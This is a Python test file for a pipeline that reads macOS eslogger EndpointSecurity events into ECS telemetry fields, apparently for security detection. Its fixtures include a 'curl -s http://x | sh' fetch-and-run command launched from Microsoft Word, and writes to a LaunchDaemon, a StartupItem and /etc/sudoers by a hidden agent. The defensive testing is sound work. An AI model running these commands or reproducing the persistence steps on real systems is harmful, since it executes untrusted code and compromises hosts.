"""macOS EndpointSecurity events from Apple's eslogger, read into ECS."""

from __future__ import annotations

import json

from eslogger_kit import exec_line, message, process
from maat.telemetry.pipeline import parse_bytes


def _parse(*lines: bytes) -> tuple[list[dict], list]:  # type: ignore[type-arg]
    out = parse_bytes(b"\n".join(lines), path="es.jsonl", received="2026-11-26T10:00:00Z",
                      max_event_bytes=1 << 20)  # fmt: skip
    return out.events, out.errors


def test_a_process_start_names_its_parents_image_and_arguments() -> None:
    line = exec_line(
        "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
        "/bin/sh",
        ["sh", "-c", "curl -s http://x | sh"],
        pid=4321,
        ppid=4000,
    )
    (event,), errors = _parse(line)
    assert errors == []
    assert event["event.module"] == "eslogger"
    assert event["event.type"] == ["start"] and event["event.category"] == ["process"]
    assert event["process.executable"] == "/bin/sh" and event["process.name"] == "sh"
    assert event["process.pid"] == 4321 and event["process.parent.pid"] == 4000
    assert event["process.parent.executable"].endswith("/Microsoft Word")
    assert event["process.command_line"] == "sh -c curl -s http://x | sh"
    assert event["process.args"] == ["sh", "-c", "curl -s http://x | sh"]
    assert event["process.working_directory"] == "/Users/dev"
    assert event["@timestamp"] == "2026-11-26T09:00:01.123456Z"
    assert event["host.os.type"] == "macos" and event["user.id"] == "501"


def test_files_created_renamed_into_place_and_written_name_their_path() -> None:
    agent = process("/Users/Shared/.x/agent", 77, 1)
    new = {"destination_type": 1, "destination": {"new_path": {
        "dir": {"path": "/Library/LaunchDaemons"}, "filename": "com.x.plist"}}}  # fmt: skip
    renamed = {"source": {"path": "/Users/Shared/a"}, "destination_type": 0,
               "destination": {"existing_file": {"path": "/Library/StartupItems/x"}}}  # fmt: skip
    written = {"target": {"path": "/etc/sudoers"}}
    events, errors = _parse(message("create", new, agent, 13),
                            message("rename", renamed, agent, 25),
                            message("write", written, agent, 33))  # fmt: skip
    assert errors == []
    assert [e["file.path"] for e in events] == [
        "/Library/LaunchDaemons/com.x.plist",
        "/Library/StartupItems/x",
        "/etc/sudoers",
    ]
    assert [e["event.type"] for e in events] == [["creation"], ["change"], ["change"]]
    assert all(e["process.executable"] == "/Users/Shared/.x/agent" for e in events)


def test_a_malformed_event_is_reported_by_line_and_the_others_kept() -> None:
    good = exec_line("/bin/zsh", "/usr/bin/curl", ["curl", "x"])
    record = json.loads(exec_line("/bin/zsh", "/usr/bin/id", ["id"]))
    record["event"]["exec"]["target"] = "not an object"
    two_events = json.loads(good)
    two_events["event"]["fork"] = {}
    events, errors = _parse(good, json.dumps(record).encode(), json.dumps(two_events).encode())
    assert len(events) == 1
    assert [(e.line, "target" in e.reason or "one event" in e.reason) for e in errors] == [
        (2, True),
        (3, True),
    ]


def test_a_root_process_is_named_root() -> None:
    (event,), _ = _parse(exec_line("/usr/libexec/xpcproxy", "/usr/bin/whoami", ["whoami"],
                                   euid=0))  # fmt: skip
    assert event["user.name"] == "root" and event["user.id"] == "0"


def test_thousands_of_arguments_cannot_hide_a_process_start() -> None:
    """A count limit would drop the event: the line's size is the only bound."""
    args = ["sh", "-c", "curl -s http://x | sh", *["x"] * 5000]
    (event,), errors = _parse(exec_line("/bin/zsh", "/bin/sh", args))
    assert errors == [] and len(event["process.args"]) == 5003
    assert event["process.command_line"].startswith("sh -c curl -s http://x | sh x x")
